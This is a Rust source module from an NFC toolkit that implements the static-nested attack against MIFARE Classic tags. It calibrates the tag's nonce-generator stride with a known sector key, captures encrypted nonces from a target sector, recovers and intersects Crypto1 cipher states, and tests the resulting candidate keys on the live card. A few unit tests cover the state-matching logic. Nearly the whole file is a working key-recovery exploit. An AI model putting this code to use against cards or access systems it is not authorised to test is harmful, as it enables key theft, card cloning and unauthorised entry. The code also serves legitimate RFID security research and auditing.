//! The static-nested attack.
//!
//! Tags with a broken nonce generator hand out nonces at a fixed PRNG
//! distance from each other. After measuring that distance under a known
//! key, the plaintext of a foreign sector's encrypted nonce is predictable,
//! which exposes 32 bits of keystream per capture. Two captures under the
//! same target key are back-solved independently; since 16 bits of the
//! pre-authentication state survive a 32-bit advance, the solved state sets
//! can be clustered on those bits, rolled back, and intersected, leaving a
//! handful of key candidates to verify against the tag.

use std::io::Write;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::crypto1::{nonce_distance, prng_successor, Crypto1Cipher};
use crate::mifare::{EncryptedNonce, Iso14443aCard, MifareClassicInitiator, MifareKey};
use crate::utils::format_duration;
use crate::{NfcError, NfcResult};

/// Nonce of the known fixed-point tag class; its calibration distances are
/// documented rather than measured.
const FIXED_POINT_NT: u32 = 0x009080A2;

pub struct StaticNestedResult {
    pub success: bool,
    pub key: u64,
    pub time_past: Duration,
    pub tested_key_count: usize,
}

#[allow(clippy::too_many_arguments)]
pub fn execute(
    initiator: &mut MifareClassicInitiator,
    card: &Iso14443aCard,
    block: u8,
    key_type: MifareKey,
    key: u64,
    target_block: u8,
    target_key_type: MifareKey,
    force_detect_distance: bool,
) -> NfcResult<StaticNestedResult> {
    if initiator.select_card(Some(&card.uid))?.is_none() {
        return Err(NfcError::TagLost);
    }

    let nt_encs = collect_data(
        initiator,
        card,
        block,
        key_type,
        key,
        target_block,
        target_key_type,
        force_detect_distance,
    )?;

    for (i, nt_enc) in nt_encs.iter().enumerate() {
        println!(
            "NtEnc_{0} = {1:08X} KeyStream_{0} = {2:08X}",
            i, nt_enc.nonce, nt_enc.keystream
        );
    }

    let nuid = card.nuid;
    let [nt_enc_a, nt_enc_b] = nt_encs;

    let solver_a = thread::spawn(move || recovery_sort(nt_enc_a, nuid));
    let solver_b = thread::spawn(move || recovery_sort(nt_enc_b, nuid));
    let mut states_a = solver_a
        .join()
        .map_err(|_| NfcError::Protocol("state recovery worker panicked"))?;
    let mut states_b = solver_b
        .join()
        .map_err(|_| NfcError::Protocol("state recovery worker panicked"))?;

    rollback_paired_states(
        &mut states_a,
        &mut states_b,
        nt_enc_a.nonce ^ nuid,
        nt_enc_b.nonce ^ nuid,
    );

    let candidates = find_intersection(states_a, states_b);
    println!("Found {} candidate keys.", candidates.len());

    let progress = AtomicUsize::new(0);
    let stop = AtomicBool::new(false);
    let start_time = Instant::now();

    let found = thread::scope(|scope| {
        let reporter = scope.spawn(|| report_progress(&progress, &stop, candidates.len()));
        let result = test_candidate_keys(
            initiator,
            card,
            target_block,
            target_key_type,
            &candidates,
            &progress,
        );
        stop.store(true, Ordering::Relaxed);
        let _ = reporter.join();
        result
    })?;

    Ok(StaticNestedResult {
        success: found.is_some(),
        key: found.unwrap_or(0),
        time_past: start_time.elapsed(),
        tested_key_count: progress.load(Ordering::Relaxed),
    })
}

#[allow(clippy::too_many_arguments)]
fn collect_data(
    initiator: &mut MifareClassicInitiator,
    card: &Iso14443aCard,
    block: u8,
    key_type: MifareKey,
    key: u64,
    target_block: u8,
    target_key_type: MifareKey,
    force_detect_distance: bool,
) -> NfcResult<[EncryptedNonce; 2]> {
    let mut cipher = Crypto1Cipher::new();

    // Calibrate: three authentications against the known sector reveal the
    // generator's per-authentication stride.
    let nt_1 = known_auth(initiator, &mut cipher, key_type, card, block, key, false)?;
    let nt_2 = known_auth(initiator, &mut cipher, key_type, card, block, key, true)?;
    let nt_3 = known_auth(initiator, &mut cipher, key_type, card, block, key, true)?;

    let dist1 = nonce_distance(nt_1, nt_2)?;
    let dist2 = nonce_distance(nt_1, nt_3)?;

    reselect(initiator, card)?;
    let nt_1 = known_auth(initiator, &mut cipher, key_type, card, block, key, false)?;

    // @see
    // https://github.com/RfidResearchGroup/proxmark3/blob/91263b69d36915926e9c4e4fc9d162c3c939fa74/armsrc/mifarecmd.c#L1656
    let (nt_a, nt_b) = if target_key_type == MifareKey::B
        && nt_1 == FIXED_POINT_NT
        && !force_detect_distance
    {
        (prng_successor(nt_1, 161), prng_successor(nt_1, 321))
    } else {
        (prng_successor(nt_1, dist1), prng_successor(nt_1, dist2))
    };

    let nt_enc_a = initiator.encrypted_nonce(&mut cipher, target_key_type, target_block)?;
    let ks_a = nt_enc_a ^ nt_a;

    reselect(initiator, card)?;
    known_auth(initiator, &mut cipher, key_type, card, block, key, false)?;
    known_auth(initiator, &mut cipher, key_type, card, block, key, true)?;

    let nt_enc_b = initiator.encrypted_nonce(&mut cipher, target_key_type, target_block)?;
    let ks_b = nt_enc_b ^ nt_b;

    Ok([
        EncryptedNonce {
            nonce: nt_a,
            keystream: ks_a,
        },
        EncryptedNonce {
            nonce: nt_b,
            keystream: ks_b,
        },
    ])
}

fn reselect(initiator: &mut MifareClassicInitiator, card: &Iso14443aCard) -> NfcResult<()> {
    if initiator.select_card(Some(&card.uid))?.is_none() {
        return Err(NfcError::TagLost);
    }
    Ok(())
}

#[allow(clippy::too_many_arguments)]
fn known_auth(
    initiator: &mut MifareClassicInitiator,
    cipher: &mut Crypto1Cipher,
    key_type: MifareKey,
    card: &Iso14443aCard,
    block: u8,
    key: u64,
    nested: bool,
) -> NfcResult<u32> {
    let (ok, nt) = initiator.auth_capturing(cipher, key_type, card, block, key, nested)?;
    if !ok {
        return Err(NfcError::Protocol("authentication with the known key failed"));
    }
    Ok(nt)
}

/// The 16 bits of the pre-authentication state still visible after the
/// 32-bit advance: both captures share them, which is what pairs the two
/// recovered state sets up.
fn retained_bits(state: &Crypto1Cipher) -> u64 {
    (u64::from(state.even()) & 0x00ff_0000) << 32 | u64::from(state.odd()) & 0x00ff_0000
}

fn recovery_sort(nt_enc: EncryptedNonce, nuid: u32) -> Vec<Crypto1Cipher> {
    let mut states = Crypto1Cipher::recovery32(nt_enc.keystream, nt_enc.nonce ^ nuid);
    states.sort_unstable_by(|a, b| retained_bits(b).cmp(&retained_bits(a)));
    states
}

/// Walk both state sets in lock-step over clusters of equal retained bits,
/// rolling every clustered state back by its capture's IV. States whose
/// retained bits appear on one side only cannot pair up and are dropped.
fn rollback_paired_states(
    states_a: &mut Vec<Crypto1Cipher>,
    states_b: &mut Vec<Crypto1Cipher>,
    iv_a: u32,
    iv_b: u32,
) {
    let (mut read_a, mut read_b) = (0, 0);
    let (mut write_a, mut write_b) = (0, 0);

    while read_a < states_a.len() && read_b < states_b.len() {
        let bits_a = retained_bits(&states_a[read_a]);
        let bits_b = retained_bits(&states_b[read_b]);

        if bits_a == bits_b {
            while read_a < states_a.len() && retained_bits(&states_a[read_a]) == bits_a {
                let mut state = states_a[read_a];
                state.rollback_word(iv_a, false);
                states_a[write_a] = state;
                write_a += 1;
                read_a += 1;
            }
            while read_b < states_b.len() && retained_bits(&states_b[read_b]) == bits_b {
                let mut state = states_b[read_b];
                state.rollback_word(iv_b, false);
                states_b[write_b] = state;
                write_b += 1;
                read_b += 1;
            }
        } else if bits_a > bits_b {
            // Descending order: the larger side has to catch down.
            read_a += 1;
        } else {
            read_b += 1;
        }
    }

    states_a.truncate(write_a);
    states_b.truncate(write_b);
}

/// Intersect by full state value; candidates come out in ascending
/// `(even, odd)` order.
fn find_intersection(
    mut states_a: Vec<Crypto1Cipher>,
    mut states_b: Vec<Crypto1Cipher>,
) -> Vec<Crypto1Cipher> {
    fn full_state(state: &Crypto1Cipher) -> u64 {
        u64::from(state.even()) << 32 | u64::from(state.odd())
    }

    states_a.sort_unstable_by_key(full_state);
    states_b.sort_unstable_by_key(full_state);

    let mut ret = Vec::new();
    let (mut i, mut j) = (0, 0);
    while i < states_a.len() && j < states_b.len() {
        let a = full_state(&states_a[i]);
        let b = full_state(&states_b[j]);
        if a < b {
            i += 1;
        } else if b < a {
            j += 1;
        } else {
            ret.push(states_a[i]);
            i += 1;
            j += 1;
        }
    }
    ret
}

fn test_candidate_keys(
    initiator: &mut MifareClassicInitiator,
    card: &Iso14443aCard,
    target_block: u8,
    target_key_type: MifareKey,
    candidates: &[Crypto1Cipher],
    progress: &AtomicUsize,
) -> NfcResult<Option<u64>> {
    let mut cipher = Crypto1Cipher::new();
    for candidate in candidates {
        let key = candidate.lfsr();
        if initiator.test_key(&mut cipher, target_key_type, card, target_block, key)? {
            return Ok(Some(key));
        }
        progress.fetch_add(1, Ordering::Relaxed);
    }
    Ok(None)
}

fn report_progress(progress: &AtomicUsize, stop: &AtomicBool, total: usize) {
    let start = Instant::now();

    while !stop.load(Ordering::Relaxed) {
        let tested = progress.load(Ordering::Relaxed);
        let elapsed = start.elapsed().as_secs_f64();
        if tested > 0 && elapsed > 0.0 {
            let speed = tested as f64 / elapsed;
            let remaining =
                Duration::from_secs((total.saturating_sub(tested) as f64 / speed) as u64);
            print!(
                "\r\x1B[2KTesting keys... ({}/{}) {:.2} keys/s, estimated time: {}. (worst-case scenario)",
                tested,
                total,
                speed,
                format_duration(remaining)
            );
            let _ = std::io::stdout().flush();
        }
        thread::sleep(Duration::from_millis(50));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn state(odd: u32, even: u32) -> Crypto1Cipher {
        Crypto1Cipher { odd, even }
    }

    #[test]
    fn intersection_is_exact_and_ascending() {
        let a = vec![state(3, 1), state(1, 2), state(7, 0)];
        let b = vec![state(1, 2), state(9, 9), state(3, 1)];
        let common = find_intersection(a, b);
        assert_eq!(common.len(), 2);
        // Ascending (even, odd): (0,7) would sort first if present; here
        // (1,3) < (2,1).
        assert_eq!((common[0].even(), common[0].odd()), (1, 3));
        assert_eq!((common[1].even(), common[1].odd()), (2, 1));
    }

    #[test]
    fn paired_rollback_recovers_the_shared_pre_state() {
        // Two captures under the same key but different IVs share the
        // keyed pre-state, and their post-states share the retained bits.
        let key = 0x4D3A99C351DD & 0xFFFFFFFFFFFF;
        let iv_a = 0xCAFEBABE ^ 0x01200145;
        let iv_b = 0xCAFEBABE ^ 0xDEAD0145;

        let mut keyed = Crypto1Cipher::new();
        keyed.init(key);

        let mut post_a = keyed;
        post_a.word(iv_a, false);
        let mut post_b = keyed;
        post_b.word(iv_b, false);
        assert_eq!(retained_bits(&post_a), retained_bits(&post_b));

        let mut states_a = vec![post_a];
        let mut states_b = vec![post_b];
        rollback_paired_states(&mut states_a, &mut states_b, iv_a, iv_b);

        assert_eq!(states_a, vec![keyed]);
        assert_eq!(states_b, vec![keyed]);

        let common = find_intersection(states_a, states_b);
        assert_eq!(common.len(), 1);
        assert_eq!(common[0].lfsr(), key);
    }

    #[test]
    fn unpaired_states_are_dropped() {
        // Retained bits live in bits 16..24 of each half.
        let mut states_a = vec![state(0x00FF0000, 0x00AA0000), state(0x00010000, 0x00020000)];
        let mut states_b = vec![state(0x00010000, 0x00020000)];
        states_a.sort_unstable_by(|a, b| retained_bits(b).cmp(&retained_bits(a)));
        rollback_paired_states(&mut states_a, &mut states_b, 0, 0);
        assert_eq!(states_a.len(), 1);
        assert_eq!(states_b.len(), 1);
    }
}
